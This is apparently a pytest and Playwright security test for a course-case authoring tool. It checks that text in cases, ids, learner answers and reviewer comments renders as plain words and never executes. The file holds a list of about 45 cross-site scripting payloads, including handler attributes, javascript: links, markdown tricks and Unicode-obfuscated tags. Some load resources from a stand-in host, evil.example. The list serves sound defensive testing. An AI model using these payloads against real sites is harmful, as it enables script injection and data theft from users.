"""Scripts put wherever words may stand: in every text of a case, in its names and ids, in what a learner writes and what a
reviewer answers. They are shown as the words they are, and none runs, asks the world for anything, or becomes an element.

A sound case brings them through as an author would who writes about them; a faulty one as somebody who means harm.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from html import escape
from typing import Any
from urllib.parse import urlsplit

import pytest
from lxml import etree
from playwright.sync_api import Browser, Locator, Page, expect

from cases import WHOLE
from casework import prose
from casework.scenario import check, grammar, xml
from preview import sample

pytestmark = pytest.mark.browser

COURSE = "course-v1:Casework+TH+en"
CORPUS = [
    "<script>window.__ran=1</script>",
    "</script><script>window.__ran=1</script>",
    "<ScRiPt/src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=window.__ran=1>",
    '<img src="x` `<script>window.__ran=1</script>"` `>',
    "<svg onload=window.__ran=1>",
    "<svg><script>window.__ran=1</script></svg>",
    '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>',
    '<iframe src="javascript:parent.__ran=1"></iframe>',
    "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<style>@import "//evil.example/x.css";</style>',
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/>",
    "<details open ontoggle=window.__ran=1>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__ran=1>",
    "<template><img src=x onerror=window.__ran=1></template>",
    "</textarea></title></noscript><img src=x onerror=window.__ran=1>",
    "<!--><img src=x onerror=window.__ran=1>-->",
    "<![CDATA[<script>window.__ran=1</script>]]>",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    '" autofocus onfocus=window.__ran=1 x="',
    "' onmouseover=window.__ran=1 x='",
    "&lt;img src=x onerror=window.__ran=1&gt;",
    "&#60;script&#62;window.__ran=1&#60;/script&#62;",
    "[a](javascript:window.__ran=1)",
    "[a](JaVaScRiPt:window.__ran=1)",
    "[a](java&Tab;script:window.__ran=1)",
    "[a](&#106;avascript&colon;window.__ran=1)",
    "[a](<javascript:window.__ran=1>)",
    "[a](\u00a0javascript:window.__ran=1)",
    "[a][j]\n\n[j]: javascript:window.__ran=1",
    "<javascript:window.__ran=1>",
    '![a](https://evil.example/x.png"onerror=window.__ran=1)',
    "[a](data:text/html,<script>parent.__ran=1</script>)",
    "[a](vbscript:window.__ran=1)",
    '[a](https://good.example/"onclick="window.__ran=1)',
    '[a](#"><img/src=x/onerror=window.__ran=1>)',
    "[a](//evil.example/x)",
    "\u2028window.__ran=1\u2029",
    '{{constructor.constructor("window.__ran=1")()}}',
    "${window.__ran=1}<%= window.__ran=1 %>",
    "\u202e<script>window.__ran=1</script>\u202c",
    "<scr\u200bipt>window.__ran=1</scr\u200bipt>",
    "\\u003cscript\\u003ewindow.__ran=1\\u003c/script\\u003e %3Cscript%3E",
    "\ufeff<a href=javascript:window.__ran=1>x</a>",
    "null undefined NaN __proto__ \ufffd \\0 %00 &#0;",
]
WRITTEN = "\n".join([*CORPUS, "{n} {found} {title}"])
PLAN = "\n".join(CORPUS[:20])
SEEN = "<script>window.__ran=1</script>"

# What has a name in JavaScript or HTML, where an author may choose one.
IDS = {
    "who": "constructor",
    "note": "script",
    "papers": "onerror",
    "trust": "alert",
    "look": "prototype",
    "mend": "iframe",
    "good": "location",
    "rice": "eval",
}
MORE = """</care><help>Help.</help>
<variant id="w1"><title>A man</title><word id="he">he</word></variant>
<variant id="w2"><title>A woman</title><word id="he">she</word></variant>"""
SKETCH = (
    '<document id="sketch" kind="image"><title>Sketch</title><image src="/static/pier.png">A pier.</image></document>'
)
HARMLESS = (
    WHOLE.replace('lang="en"', 'lang="th" exit="https://good.example/"')
    .replace("</care>", MORE)
    .replace("<document", SKETCH + "<document", 1)
    .replace('<open document="note"/>', '<open document="note"/><open document="sketch"/>')
    .replace("Text.", "Text of {he}.")
)


def renamed(source: str) -> str:
    for old, new in IDS.items():
        source = re.sub(rf"\b{old}\b", new, source)
    return source


def shown(script: str) -> str:
    """A script as a sound case has it: as it stands where Markdown takes it for words, else in backticks."""
    return script if not prose.faults(script) else f"```` {script} ````"


def full(source: str, say: Callable[[str], str]) -> str:
    """The case with half of the corpus in every text, in turn, and one script in every name: with all of it in each a case would
    be longer than is read."""
    root = xml.tree(source, "case")
    halves = ["\n\n".join(map(say, CORPUS[at::2])) for at in (0, 1)]
    texts = 0
    for count, element in enumerate(root.iter()):
        if "by" in element.attrib:
            element.set("by", CORPUS[count % len(CORPUS)].replace("\n", " "))
        if element.tag == "word":
            element.text = f"{element.text} {say(CORPUS[3])}"
        elif grammar.ELEMENTS[str(element.tag)].is_text:
            element.text = f"{element.text} {halves[texts % 2]}"
            texts += 1
    panel = root.find("panel")
    assert panel is not None
    for script in CORPUS:
        etree.SubElement(panel, "opinion", by=script.replace("\n", " "), option="ask").text = say(script)
    return etree.tostring(root, encoding="unicode")


SOUND = full(renamed(HARMLESS), shown)
ID = escape(CORPUS[0])
UNITS = {
    "harmless": HARMLESS,
    "sound": SOUND,
    "reviewed": SOUND,
    "texts": full(HARMLESS, lambda script: script),
    "ids": HARMLESS.replace('id="who"', f'id="{ID}"').replace('kind="record"', f'kind="{ID}" {"x" * 9}="{ID}"'),
    "sense": HARMLESS.replace('if="trust = 0"', f'if="{ID}"').replace('set="trust+1"', f'set="{ID}"'),
    "torn": CORPUS[0],
}
FAULTY = {"texts": "bad-markdown", "ids": "bad-value", "sense": "bad-condition", "torn": "unknown-element"}


def test_the_sound_case_is_sound_and_full_and_the_others_are_not() -> None:
    for name, source in UNITS.items():
        case, findings = check.parse(source)
        assert check.is_sound(findings) == (name not in FAULTY), [str(one) for one in findings if one.is_error]
        assert name not in FAULTY or FAULTY[name] in {one.code for one in findings}
        assert (case is None) == (name in FAULTY)
    assert SOUND.count("window.__ran") > 1_000
    assert list(check.personal_data(WRITTEN)) == []


@pytest.fixture(scope="module")
def base(serve_packages: Callable[..., str], tmp_path_factory: pytest.TempPathFactory) -> str:
    files = sample.english()
    verticals = "".join(f'<vertical url_name="{name}"/>' for name in UNITS)
    files["sequential/l-boys.xml"] = (
        f'<sequential display_name="Boys" graded="true" format="Lesson">{verticals}</sequential>'
    )
    files["vertical/boys.xml"] = '<vertical display_name="unused"/>'
    title = escape(" ".join(CORPUS[:8])[:250])  # as long as a name may be
    for name, case in UNITS.items():
        block = f'<casework-case url_name="case-{name}" display_name="{title}">{case}</casework-case>'
        files[f"vertical/{name}.xml"] = f'<vertical display_name="{title}">{block}</vertical>'
    return serve_packages([sample.write(tmp_path_factory.mktemp("hostile") / "hostile.tar.gz", files)])


# Elements that could run something, fetch something, or change what stands around them.
CENSUS = """(root) => {
  const names = "script,img,svg,iframe,object,embed,link,style,meta,base,template,math,video,audio,frame,form".split(",");
  const count = Object.fromEntries(names.map((name) => [name, root.querySelectorAll(name).length]));
  const every = [root, ...root.querySelectorAll("*")];
  count.listens = every.filter((one) => [...one.attributes].some(({name}) => /^on|srcdoc|formaction/.test(name))).length;
  count.leads = [...root.querySelectorAll("[href],[src],[action]")].filter((one) =>
    !["http:", "https:"].includes(new URL(one.href || one.src || one.action, location.href).protocol)).length;
  return count;
}"""


class Watched:
    """A page on which nothing may run, open, or be asked of another host."""

    def __init__(self, page: Page, base: str) -> None:
        self.page, self.base = page, base
        self.heard: list[str] = []
        page.set_default_timeout(15_000)
        page.on("dialog", self._dialog)
        page.on("pageerror", lambda error: self.heard.append(f"error {error}"))
        page.on("popup", lambda other: self.heard.append(f"window {other.url}"))
        page.on("request", self._request)

    def _dialog(self, dialog: Any) -> None:
        self.heard.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Any) -> None:
        if urlsplit(request.url).netloc != urlsplit(self.base).netloc:
            self.heard.append(f"request {request.url}")

    def act_as(self, role: str) -> None:
        self.page.goto(self.base)
        self.page.get_by_role("button", name=role, exact=True).click()

    def unit(self, name: str) -> None:
        self.page.goto(f"{self.base}/unit/block-v1:{COURSE.removeprefix('course-v1:')}+type@vertical+block@{name}/")

    def editor(self, name: str) -> None:
        self.page.goto(
            f"{self.base}/edit/block-v1:{COURSE.removeprefix('course-v1:')}+type@casework-case+block@case-{name}/"
        )

    def census(self, place: str) -> dict[str, int]:
        """What stands in `place` that could do more than be read, and that nothing has happened so far."""
        self.page.wait_for_timeout(100)  # what has come in as an element would run by now
        assert [frame.evaluate("typeof window.__ran") for frame in self.page.frames] == ["undefined"] * len(
            self.page.frames
        )
        assert self.heard == []
        counted = self.page.locator(place).first.evaluate(CENSUS)
        assert (counted["listens"], counted["leads"]) == (0, 0)
        return dict(counted)


@pytest.fixture
def watched(browser: Browser, base: str) -> Iterator[Watched]:
    context = browser.new_context(viewport={"width": 1130, "height": 900}, reduced_motion="reduce")
    yield Watched(context.new_page(), base)
    context.close()


class Learner:
    """Plays the case by places and never by words, so that any words may stand there."""

    def __init__(self, watched: Watched, unit: str) -> None:
        self.watched, self.unit = watched, unit
        self.stages: list[dict[str, int]] = []
        watched.unit(unit)

    @property
    def root(self) -> Locator:
        return self.watched.page.locator(".casework-case")

    def look(self) -> None:
        self.root.locator("details").evaluate_all("(all) => all.forEach((one) => { one.open = true })")
        self.stages.append(self.watched.census(".casework-case"))

    def go(self) -> None:
        self.root.locator("button.cw-go:visible").first.click()

    def play(self, words: str) -> None:
        """From the start to the debrief, looking at each stage."""
        self.look()
        self.go()
        self.rest(words)

    def rest(self, words: str) -> None:
        expect(self.root.locator("[data-phrase]").first).to_be_visible()
        self.look()
        for at in range(2):
            self.root.locator(".cw-task [data-phrase]").nth(at).click()
        self.go()
        expect(self.root.locator(".cw-sure")).to_be_visible()
        for row in self.root.locator(".cw-beside button").all():
            row.click()
            self.look()
        self.root.locator(".cw-opt").first.click(position={"x": 5, "y": 5})
        self.root.locator(".cw-sure label").first.click()
        self.go()
        expect(self.root.locator(".cw-reply")).to_be_visible()
        self.look()
        self.go()
        expect(self.root.locator("textarea")).to_be_visible()
        self.root.locator("textarea").fill(words)
        self.look()
        self.go()
        expect(self.root.locator(".cw-opt")).to_have_count(5)
        self.look()
        self.root.locator(".cw-opt").nth(3).click(position={"x": 5, "y": 5})
        self.go()
        expect(self.root.locator(".cw-debrief").first).to_be_visible()
        self.look()

    def both(self, words: str) -> None:
        """With one person, then with the other; then a plan; then the page anew, as it is found later."""
        self.play(words)
        self.root.locator(".cw-debrief .cw-ways button.cw-go").first.click()
        self.rest(words)
        self.root.locator(".cw-plan textarea").fill(PLAN)
        self.root.locator(".cw-plan button").click()
        self.look()
        self.watched.unit(self.unit)
        expect(self.root.locator(".cw-debrief").first).to_be_visible()
        self.look()


def test_a_case_full_of_scripts_is_played_to_the_end_with_each_person_and_nothing_runs(watched: Watched) -> None:
    harmless = Learner(watched, "harmless")
    harmless.both("Because of the debt.")
    sound = Learner(watched, "sound")
    sound.both(WRITTEN)
    assert sound.stages == harmless.stages
    assert len(sound.stages) >= 16
    told = sound.root.inner_text()
    for script in CORPUS:
        assert " ".join(script.split()) in " ".join(told.split()), script


def test_a_review_full_of_scripts_is_written_and_read_and_nothing_runs(watched: Watched) -> None:
    watched.act_as("Learner B")
    learner = Learner(watched, "reviewed")
    learner.play(WRITTEN)
    before = learner.stages[-1]
    watched.act_as("Instructor")
    page = watched.page
    page.goto(f"{watched.base}/casework/review/{COURSE}/")
    watched.census("main")
    for address in [one.get_attribute("href") for one in page.locator("main a.name").all()]:
        page.goto(f"{watched.base}{address}")
        drawn = watched.census("main")
        for row in page.locator("form fieldset:has(input[type=radio])").all():
            row.locator("input[type=radio]").first.check(force=True)
        page.locator("#comment").fill(WRITTEN)
        page.locator("main details").evaluate_all("(all) => all.forEach((one) => { one.open = true })")
        assert watched.census("main") == drawn
        page.locator("#main form button.go").click()
        expect(page.locator("#saved")).to_be_visible()
        page.goto(f"{watched.base}{address}")  # saving went on to the next that waits
        assert watched.census("main") == drawn
        assert SEEN in page.locator(".earlier").inner_text()
    watched.act_as("Learner")
    watched.act_as("Learner B")
    watched.unit("reviewed")
    expect(learner.root.locator(".cw-debrief").first).to_be_visible()
    learner.look()
    assert learner.stages[-1] == before
    assert learner.root.inner_text().count("{n} {found} {title}") == 2


@pytest.mark.parametrize("name", FAULTY)
def test_a_learner_at_a_faulty_case_reads_one_line(watched: Watched, name: str) -> None:
    watched.act_as("Learner")
    learner = Learner(watched, name)
    expect(learner.root.locator("p.cw-pad")).to_be_visible()
    assert sum(watched.census(".casework-case").values()) == 0
    assert "__ran" not in learner.root.inner_text()


@pytest.mark.parametrize("name", ["sound", *FAULTY])
def test_an_author_reads_the_scripts_as_words(watched: Watched, name: str) -> None:
    watched.act_as("Author")
    watched.unit(name)
    author = watched.page.locator(".cw-author")
    expect(author).to_contain_text(FAULTY.get(name, SEEN))
    assert sum(watched.census(".cw-author").values()) == 0
    watched.editor(name)
    editor = watched.page.locator("form.cw-studio")
    assert SEEN in re.sub("&lt;", "<", re.sub("&gt;", ">", editor.locator("textarea").input_value()))
    assert sum(watched.census("form.cw-studio").values()) == 0


def test_an_author_whose_edit_is_refused_reads_the_scripts_as_words(watched: Watched) -> None:
    watched.act_as("Author")
    watched.editor("sound")
    editor = watched.page.locator("form.cw-studio")
    for name, code in FAULTY.items():
        editor.locator("textarea").evaluate("(one, text) => { one.value = text }", UNITS[name])
        editor.get_by_role("button", name="Save").click()
        expect(editor.locator(".cw-refusal")).to_contain_text(f"error {code}")
        expect(editor.locator(".cw-refusal")).to_contain_text("<script>")
        assert sum(watched.census("form.cw-studio").values()) == 0
